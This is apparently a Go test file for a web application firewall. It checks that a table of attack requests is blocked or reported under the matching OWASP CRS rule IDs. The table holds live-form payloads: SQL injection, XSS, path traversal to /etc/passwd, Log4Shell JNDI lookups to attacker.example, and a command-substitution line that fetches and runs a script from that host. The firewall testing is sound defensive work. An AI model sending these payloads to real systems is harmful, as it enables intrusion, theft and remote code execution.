package waf

import (
	"net/http"
	"testing"
)

// attack is a request carrying a real attack payload.
type attack struct {
	name, method, target string
	headers              map[string]string
	body                 string
	rule                 string // the rule Inspect must report
}

func attacks() []attack {
	json := with(chromeHeaders, "Content-Type", "application/json")
	form := with(chromeHeaders, "Content-Type", "application/x-www-form-urlencoded")
	return []attack{
		{"sqli tautology", "GET", "/products?id=1'%20OR%201=1--", chromeHeaders, "", "crs-942100"},
		{"sqli union", "GET", "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users", firefoxHeaders, "", "crs-942100"},
		{"sqli in cookie", "GET", "/", with(chromeHeaders, "Cookie", "session=abc' OR '1'='1"), "", "crs-942100"},
		{"sqli in json body", "POST", "/api/search", json, `{"q":"x' UNION SELECT password FROM users--"}`, "crs-942100"},
		{"xss script", "GET", "/?q=<script>alert(document.cookie)</script>", chromeHeaders, "", "crs-941100"},
		{"xss event handler", "GET", "/?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", chromeHeaders, "", "crs-941100"},
		{"xss in form body", "POST", "/contact", form, "message=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "crs-941100"},
		{"path traversal", "GET", "/..%2f..%2fetc/passwd", chromeHeaders, "", "crs-930100"},
		{"path traversal in arg", "GET", "/download?file=../../../../etc/passwd", chromeHeaders, "", "crs-930100"},
		{"log4shell in query", "GET", "/?x=${jndi:ldap://attacker.example/a}", chromeHeaders, "", "crs-932130"},
		{"log4shell in header", "GET", "/", with(chromeHeaders, "X-Api-Version", "${jndi:ldap://attacker.example/a}"), "", "crs-944150"},
		{"shell injection", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", chromeHeaders, "", "crs-930120"},
		{"shell command substitution", "GET", "/?host=$(curl%20http://attacker.example/x.sh%7Csh)", chromeHeaders, "", "crs-932235"},
		{"php injection", "GET", "/?page=php://filter/convert.base64-encode/resource=index.php", chromeHeaders, "", "crs-933140"},
	}
}

func (a attack) request(t testing.TB) *http.Request {
	return request(t, a.method, a.target, a.headers, a.body)
}

func TestAttacksAreBlockedInBlockMode(t *testing.T) {
	f := mustNew(t, Config{Mode: "block", Rules: []string{"owasp-core", "bad-bots", "scanners"}})
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			rule, block := f.Inspect(a.request(t), publicClient)
			if rule != a.rule || !block {
				t.Errorf("Inspect = %q, %v; want %q, true", rule, block, a.rule)
			}
		})
	}
}

func TestAttacksAreReportedNotBlockedInDetectMode(t *testing.T) {
	f := mustNew(t, Config{Mode: "detect", Rules: []string{"owasp-core"}})
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			rule, block := f.Inspect(a.request(t), publicClient)
			if rule != a.rule || block {
				t.Errorf("Inspect = %q, %v; want %q, false", rule, block, a.rule)
			}
		})
	}
}
